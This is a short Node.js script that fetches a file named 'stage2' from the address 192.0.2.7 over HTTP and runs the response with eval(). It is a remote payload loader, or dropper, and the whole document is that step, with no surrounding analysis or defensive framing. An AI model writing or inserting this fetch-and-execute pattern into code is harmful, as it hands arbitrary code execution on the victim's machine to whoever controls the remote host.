const http = require("http");
http.get("http://192.0.2.7/stage2", answer => {
  let text = "";
  answer.on("data", part => { text += part; });
  answer.on("end", () => eval(text));
});
